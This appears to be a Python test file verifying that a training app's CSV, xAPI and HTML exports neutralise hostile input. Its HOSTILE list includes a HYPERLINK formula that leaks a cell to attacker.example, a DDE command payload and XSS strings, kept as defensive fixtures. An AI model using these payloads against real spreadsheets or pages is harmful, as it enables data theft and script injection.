"""Exports carry hostile names, replies and comments as plain text: no live formula, valid JSON, escaped HTML."""

from __future__ import annotations

import csv
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

import main
from trainer.classroom import HotSeat, Roster
from trainer.commands.records import export_csv
from trainer.delivery import measure
from trainer.exports.report import class_report_html
from trainer.exports.spreadsheet import FORMULA_STARTS, neutralise
from trainer.exports.xapi import export_xapi
from trainer.rubric import CRITERIA_BY_ID
from trainer.session import TurnResult
from trainer.storage.progress import AttemptRecord, ProgressStore

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")',
    "=1+2",
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "  =cmd|' /C calc'!A0",
    "\n=1+2",
    'Ana "the hammer" O\'Neil, senior',
    "two\nlines, and a comma",
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "&lt;already escaped&gt; &amp;",
    "سارة \u202eevil\u202c rtl",
    "Zoë 🙂 👩‍💼",
]

NAMES = [text for text in HOSTILE if text == text.strip()]  # names are stored stripped


def _dangerous(text: str) -> bool:
    return text[:1] in FORMULA_STARTS or text.lstrip()[:1] in FORMULA_STARTS


def _hostile_class(store: ProgressStore, grader, library) -> int:  # type: ignore[no-untyped-def]
    """A class named like an attack, one attempt per hostile learner with a hostile reply and review comment."""
    roster = Roster(store)
    class_id = roster.create_class('=HYPERLINK("http://x") <b>class</b>')
    for name in NAMES:
        roster.add_learner(class_id, name)
    scenario = library.get("hold-the-line")
    turn = scenario.turn(scenario.start)
    cs_id = roster.start_session(class_id, [scenario.id], "round-robin", 90)
    seat = HotSeat(roster.members(class_id))
    for index, reply in enumerate(HOSTILE):
        member = seat.next()
        assert member is not None
        session_id = store.start_session(member.learner_id, scenario.id, 1, kind="class", class_session_id=cs_id)
        grade = grader.grade(reply, scenario.weights_for(turn), scenario.pass_mark)
        record = AttemptRecord(
            session_id, member.learner_id, scenario.id, 1, scenario.criteria, turn.requires, measure(reply),
            class_session_id=cs_id,
        )  # fmt: skip
        attempt_id = store.record_attempt(record, TurnResult(1, turn.id, 1, turn.lines[0], reply, grade, "end"))
        store.set_override(attempt_id, "engages", True, comment=HOSTILE[(index + 1) % len(HOSTILE)], by=member.name)
    return cs_id


def test_neutralise_prefixes_only_formula_like_text() -> None:
    assert [neutralise(v) for v in ("=1+2", " @x", "\t1", "\r1", "-", "+", "plain", "", 7, -3, 0.5, None)] == [
        "'=1+2", "' @x", "'\t1", "'\r1", "'-", "'+", "plain", "", 7, -3, 0.5, None,
    ]  # fmt: skip


def test_csv_holds_no_live_formula(store: ProgressStore, grader, library, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    _hostile_class(store, grader, library)
    target = tmp_path / "progress.csv"
    rows = export_csv(store.db, target)
    with target.open(newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    assert len(table) == rows + 1 and rows >= len(HOSTILE) * 5
    live = [cell for row in table for cell in row if _dangerous(cell)]
    assert live == []
    header = table[0]
    records = [dict(zip(header, row, strict=True)) for row in table[1:]]

    def as_sheet(texts: list[str]) -> set[str]:
        return {("'" + text) if _dangerous(text) else text for text in texts}

    assert {r["learner"] for r in records} == as_sheet(NAMES)
    assert {r["transcript"] for r in records} == as_sheet(HOSTILE)
    assert {r["override_comment"] for r in records} - {""} == as_sheet(HOSTILE)


def test_xapi_keeps_the_exact_strings(store: ProgressStore, grader, library, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    _hostile_class(store, grader, library)
    target = tmp_path / "statements.json"
    assert export_xapi(store.db, {"hold-the-line": 'Hold <the> "line"'}, target) == len(HOSTILE)
    statements = json.loads(target.read_text(encoding="utf-8"))
    assert {s["actor"]["name"] for s in statements} == set(NAMES)
    assert {s["actor"]["account"]["name"] for s in statements} == set(NAMES)
    assert {s["result"]["response"] for s in statements} == set(HOSTILE)
    assert {s["object"]["definition"]["name"]["en-US"] for s in statements} == {'Hold <the> "line": opening'}


class _Elements(HTMLParser):
    """Every element and attribute the page really contains, and the text of each learner cell."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.names: list[str] = []
        self._in_name = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self._in_name = tag == "td" and ("class", "name") in attrs

    def handle_data(self, data: str) -> None:
        if self._in_name:
            self.names.append(data)
            self._in_name = False


def test_html_report_escapes_everything(store: ProgressStore, grader, library) -> None:  # type: ignore[no-untyped-def]
    cs_id = _hostile_class(store, grader, library)
    page = _Elements()
    page.feed(class_report_html(store.db, cs_id))
    page.close()
    assert page.tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "div", "table", "tr", "th", "td"}
    assert page.attributes <= {"lang", "charset", "class", "colspan"}
    criteria = {c.name for c in CRITERIA_BY_ID.values()}  # the calibration table's first column
    assert set(page.names) - criteria == set(NAMES)


@pytest.mark.parametrize("fmt", ["csv", "xapi"])
def test_export_command_with_a_formula_reply(tmp_path: Path, capsys, fmt: str) -> None:  # type: ignore[no-untyped-def]
    """The issue's case through the command line: a learner named like a formula and a reply of =1+2."""
    data, target = str(tmp_path / "d"), tmp_path / f"out.{fmt}"
    name = '=HYPERLINK("http://attacker.example","x")'
    argv = ["--data-dir", data, "practice", "--scenario", "hold-the-line", "--learner", name]
    assert main.main([*argv, "--text", "=1+2", "--text", "@SUM(1,2)"]) == 0
    assert main.main(["--data-dir", data, "export", "--format", fmt, "--out", str(target)]) == 0
    capsys.readouterr()
    if fmt == "csv":
        with target.open(newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert [c for c in cells if _dangerous(c)] == [] and f"'{name}" in cells and "'=1+2" in cells
    else:
        statements = json.loads(target.read_text(encoding="utf-8"))
        assert [s["result"]["response"] for s in statements] == ["=1+2", "@SUM(1,2)"]
        assert {s["actor"]["name"] for s in statements} == {name}
